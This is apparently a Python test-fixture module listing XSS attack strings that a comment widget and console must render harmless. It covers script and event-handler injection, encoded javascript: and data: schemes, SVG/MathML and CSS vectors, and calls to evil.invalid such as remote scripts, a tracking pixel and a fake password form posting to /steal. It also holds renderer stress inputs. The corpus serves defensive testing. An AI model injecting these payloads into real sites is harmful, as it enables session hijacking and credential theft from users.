"""Hostile comment texts: the abuse corpus the widget and the console must render inert.

Provenance: written for this project from general knowledge of the categories
in the OWASP "XSS Filter Evasion Cheat Sheet" (script and event-handler
injection, malformed and obfuscated tags, encoded and whitespace-split
`javascript:` schemes, SVG and MathML vectors, `data:` URIs, CSS expressions,
attribute breakouts, template/markup confusion), plus inputs aimed at the
renderer rather than the browser (very long, deeply nested, Unicode direction
overrides). These are standard attack strings, not copied from any list.

Each vector template holds `{js}`, filled twice: once with `alert(1)` (the test
fails on any dialog) and once with `window.__xss=1` (the test fails if the
canary is set), so a payload that runs code is caught either way. External
addresses use `evil.invalid`, so a request leaving the service is caught by the
browser test's network guard, never sent anywhere.
"""

from __future__ import annotations

__all__ = ["ACTIONS", "PAYLOADS", "TEMPLATES", "STRUCTURAL", "short_payloads"]

ACTIONS = ("alert(1)", "window.__xss=1")
EVIL = "http://evil.invalid"

# Script injection and tag-name tricks.
_SCRIPT = [
    "<script>{js}</script>",
    "<SCRIPT>{js}</SCRIPT>",
    "<ScRiPt>{js}</sCrIpT>",
    "<script src=" + EVIL + "/x.js></script>",
    "<script/src=" + EVIL + "/x.js></script>",
    "<script x>{js}</script y>",
    "<<script>{js};//<</script>",
    "<script>{js}//",
    "<scr<script>ipt>{js}</scr</script>ipt>",
    "</textarea><script>{js}</script>",
    "</title><script>{js}</script>",
    "</style><script>{js}</script>",
    "--><script>{js}</script><!--",
    "]]><script>{js}</script>",
    "<!--<script>{js}</script>-->",
    "<noscript><p title=\"</noscript><img src=x onerror={js}>\">",
    "<iframe srcdoc=\"<script>parent.{js}</script>\"></iframe>",
    "<script type=module>{js}</script>",
    "\"><script>{js}</script>",
    "'><script>{js}</script>",
]

# Event handlers on every kind of element, with quoting and spacing tricks.
_HANDLERS = [
    "<img src=x onerror={js}>",
    "<IMG SRC=x ONERROR={js}>",
    "<img src=x onerror=\"{js}\">",
    "<img src=x onerror='{js}'>",
    "<img src=x onerror=`{js}`>",
    "<img/src=x/onerror={js}>",
    "<img src=x\tonerror={js}>",
    "<img src=x\nonerror={js}>",
    "<img src=x onerror\t=\t{js}>",
    "<img \"\"\"><script>{js}</script>\">",
    "<img src=\"x\" onerror=\"&#x61;&#x6c;&#x65;&#x72;&#x74;(1);window.__xss=1\">",
    "<body onload={js}>",
    "<body onpageshow={js}>",
    "<svg onload={js}>",
    "<svg/onload={js}>",
    "<input autofocus onfocus={js}>",
    "<select autofocus onfocus={js}></select>",
    "<textarea autofocus onfocus={js}></textarea>",
    "<details open ontoggle={js}>",
    "<video src=x onerror={js}></video>",
    "<audio src=x onerror={js}></audio>",
    "<video><source onerror={js}></video>",
    "<marquee onstart={js}>x</marquee>",
    "<div onmouseover={js}>hover</div>",
    "<a onmouseover={js}>hover</a>",
    "<div style=\"width:100%;height:100%;position:fixed;left:0;top:0\" onmouseover={js}></div>",
    "<iframe onload={js}></iframe>",
    "<object data=x onerror={js}></object>",
    "<form><button formaction=javascript:{js}>go</button></form>",
    "<isindex action=javascript:{js} type=image>",
    "<img src=x:x onerror={js}//",
    "<img src=1 onerror={js} <",
    "<x onclick={js} contenteditable>click</x>",
    "<style onload={js}></style>",
    "<link rel=stylesheet href=x onerror={js}>",
    "<table background=x onerror={js}>",
    "<img src=x one&#0;rror={js}>",
    "\" onmouseover=\"{js}",
    "' onfocus='{js}' autofocus='",
    "\" autofocus onfocus=\"{js}",
]

# `javascript:`, `vbscript:` and `data:` schemes, encoded, split and padded.
_SCHEMES = [
    "<a href=\"javascript:{js}\">link</a>",
    "<a href=javascript:{js}>link</a>",
    "<a href=\"JaVaScRiPt:{js}\">link</a>",
    "<a href=\" javascript:{js}\">link</a>",
    "<a href=\"jav\tascript:{js}\">link</a>",
    "<a href=\"jav&#x09;ascript:{js}\">link</a>",
    "<a href=\"jav&#x0A;ascript:{js}\">link</a>",
    "<a href=\"jav&#x0D;ascript:{js}\">link</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{js}\">link</a>",
    "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105"
    "&#0000112&#0000116&#0000058{js}\">link</a>",
    "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A{js}\">link</a>",
    "<a href=\"javascript&colon;{js}\">link</a>",
    "<a href=\"java&Tab;script:{js}\">link</a>",
    "<a href=\"java&NewLine;script:{js}\">link</a>",
    "<a href=\"&#14;  javascript:{js}\">link</a>",
    "<a href=\"vbscript:msgbox(1)\">link {js}</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">{js}</a>",
    "<a href=\"data:text/html,<script>{js}</script>\">link</a>",
    "<a href=\"data:image/svg+xml,<svg onload={js}>\">link</a>",
    "<img src=\"javascript:{js}\">",
    "<img src=javascript:{js}>",
    "<img dynsrc=\"javascript:{js}\">",
    "<img lowsrc=\"javascript:{js}\">",
    "<iframe src=\"javascript:{js}\"></iframe>",
    "<iframe src=\"data:text/html,<script>{js}</script>\"></iframe>",
    "<embed src=\"javascript:{js}\">",
    "<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "<object data=\"javascript:{js}\"></object>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:{js}\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=data:text/html,<script>{js}</script>\">",
    "<base href=\"javascript:{js}//\"><a href=x>rel</a>",
    "<form action=\"javascript:{js}\"><input type=submit></form>",
    "<input type=image src=\"javascript:{js}\">",
    "<frameset><frame src=\"javascript:{js}\"></frameset>",
    "<bgsound src=\"javascript:{js}\">",
    "javascript:{js}",
    "JAVASCRIPT:{js}",
    "java&#0;script:{js}",
    "http://example.com/\"onmouseover=\"{js}",
    "http://example.com/<script>{js}</script>",
    "https://example.com/'><img src=x onerror={js}>",
    "http://example.com/?q=\"><svg onload={js}>",
    "[click](javascript:{js})",
    "![x](javascript:{js})",
    "<a href=\"http://example.com\" onclick=\"{js}\">safe-looking</a>",
]

# SVG and MathML vectors.
_SVG_MATHML = [
    "<svg><script>{js}</script></svg>",
    "<svg><script xlink:href=\"data:,{js}\"></script></svg>",
    "<svg><a xlink:href=\"javascript:{js}\"><text x=20 y=20>click</text></a></svg>",
    "<svg><a href=\"javascript:{js}\"><rect width=100 height=100 /></a></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><set attributeName=onload to={js} />",
    "<svg><animate attributeName=href values=javascript:{js} /><a><text>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload={js}></svg>#x\" /></svg>",
    "<svg><foreignObject><iframe src=\"javascript:{js}\"></iframe></foreignObject></svg>",
    "<svg><style>@import '" + EVIL + "/x.css';</style></svg>",
    "<svg><image href=" + EVIL + "/x.png onerror={js} /></svg>",
    "<svg xmlns=\"http://www.w3.org/2000/svg\"><g onload=\"{js}\"></g></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={js}></style></mglyph></table></mtext></math>",
    "<math href=\"javascript:{js}\">click</math>",
    "<math><maction actiontype=statusline xlink:href=\"javascript:{js}\">click</maction></math>",
    "<math><mi xlink:href=\"data:x,<script>{js}</script>\">x</mi></math>",
    "<math><mtext></mtext><mglyph><svg><mtext><textarea><a title=\"</textarea><img src=x onerror={js}>\">",
    "<svg></p><style><a id=\"</style><img src=x onerror={js}>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={js}>",
    "<noembed><img title=\"</noembed><img src=x onerror={js}>\"></noembed>",
]

# CSS expressions, imports and style-based tricks.
_CSS = [
    "<div style=\"width: expression({js});\">css</div>",
    "<div style=\"background:url(javascript:{js})\">css</div>",
    "<div style=\"background-image: url('javascript:{js}')\">css</div>",
    "<div style=\"behavior: url(x.htc);\">{js}</div>",
    "<div style=\"-moz-binding:url(" + EVIL + "/x.xml#xss)\">{js}</div>",
    "<style>@import '" + EVIL + "/x.css';</style>{js}",
    "<style>body{{background:url(\"javascript:{js}\")}}</style>",
    "<style>*{{x:expression({js})}}</style>",
    "<link rel=stylesheet href=\"" + EVIL + "/x.css\">{js}",
    "<div style=\"xss:expr/**/ession({js})\">css</div>",
    "<div style=\"xss:\\65 xpression({js})\">css</div>",
    "<img style=\"background:url(" + EVIL + "/beacon)\" src=x>{js}",
    "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%;background:red\">overlay {js}</p>",
]

# Markup confusion: comments, CDATA, templates, attribute breakouts, quoting.
_CONFUSION = [
    "<!--[if gte IE 4]><script>{js}</script><![endif]-->",
    "<![CDATA[<script>{js}</script>]]>",
    "<?xml version=\"1.0\"?><script>{js}</script>",
    "<template><script>{js}</script></template>",
    "<xmp><script>{js}</script></xmp>",
    "<plaintext><script>{js}</script>",
    "<listing><img src=x onerror={js}></listing>",
    "<a href=\"x\" title=\"</a><img src=x onerror={js}>\">x</a>",
    "<div title=\"--><img src=x onerror={js}>\">x</div>",
    "{{{{constructor.constructor('{js}')()}}}}",
    "${{{js}}}",
    "<%= {js} %>",
    "\\\"><img src=x onerror={js}>",
    "&lt;script&gt;{js}&lt;/script&gt;",
    "&#60;script&#62;{js}&#60;/script&#62;",
    "%3Cscript%3E{js}%3C/script%3E",
    "\\u003cscript\\u003e{js}\\u003c/script\\u003e",
    "\uff1cscript\uff1e{js}\uff1c/script\uff1e",
    "<scri\u200bpt>{js}</scri\u200bpt>",
    "<img src=x onerror=eval(atob('d2luZG93Ll9feHNzPTE='))>{js}",
    "<img src=x onerror=\"eval(String.fromCharCode(97,108,101,114,116,40,49,41))\">{js}",
    "<img src=x onerror=top['al'+'ert'](1)>{js}",
    "<img src=x onerror=window['__x'+'ss']=1>{js}",
    "<a href=\"#\" onclick=\"{js};return false\">click</a>",
    "<iframe src=\"" + EVIL + "/frame\"></iframe>{js}",
    "<img src=\"" + EVIL + "/pixel.gif\">{js}",
    "<img srcset=\"" + EVIL + "/a.png 1x\">{js}",
    "<video poster=\"" + EVIL + "/p.png\"></video>{js}",
    "<object data=\"" + EVIL + "/o.swf\"></object>{js}",
    "<form action=\"" + EVIL + "/steal\"><input name=p type=password><button>Log in</button></form>{js}",
]

TEMPLATES: list[str] = _SCRIPT + _HANDLERS + _SCHEMES + _SVG_MATHML + _CSS + _CONFUSION


def _expand(templates: list[str]) -> list[str]:
    out: list[str] = []
    for template in templates:
        for js in ACTIONS:
            text = template.replace("{js}", js).replace("{{", "{").replace("}}", "}")
            if text not in out:
                out.append(text)
    return out


# Inputs aimed at the renderer: size, nesting, direction and invisible characters.
STRUCTURAL: list[str] = [
    "A" * 9_990 + " end",
    "<div>" * 1_200 + "deep" + "</div>" * 500,
    "<a href=\"http://example.com\">" * 300 + "nested links",
    "(" * 4_000 + "http://example.com/" + ")" * 4_000,
    "http://example.com/" + "a" * 9_000,
    "\n" * 3_000 + "after many blank lines\n\n\n" + "x\n" * 2_000,
    "\u202eevil.exe\u202c is \u202dfine\u202c",
    "\u2066\u2067\u2068isolates\u2069 and \u200f\u200e marks <b>bold?</b>",
    "gnp.\u202eexe\u202c \u202e<script>window.__xss=1</script>",
    "zero\u200bwidth\u200cjoin\u200dthe\ufeffBOM <img src=x onerror=window.__xss=1>",
    "combining: Z\u0351\u0352\u0353\u0354\u0355\u0356\u0357\u0358\u0359" * 50,
    "emoji 👩\u200d👩\u200d👧\u200d👦 and 𝕏𝕊𝕊 <svg onload=window.__xss=1>",
    "http://ex\u0430mple.com/lookalike-host",
    "http://example.com/path?x=1&y=<script>window.__xss=1</script>",
    "https://example.com/a\"b'c<d>e`f",
    "&amp;lt;script&amp;gt;window.__xss=1&amp;lt;/script&amp;gt;",
    "\t\t<img\tsrc=x\tonerror=window.__xss=1>\t\t",
    "</p></div></body></html><script>window.__xss=1</script>",
    "<p><p><p><br><br><a><a><a>unbalanced",
    "\r\n\r\n<svg onload=window.__xss=1>\r\rmixed line ends",
]

PAYLOADS: list[str] = _expand(TEMPLATES) + STRUCTURAL


def short_payloads(limit: int) -> list[str]:
    """Return the payloads that fit a single-line field of `limit` characters (author, title)."""
    return [p for p in PAYLOADS if len(p.strip()) <= limit and "\n" not in p and "\t" not in p]
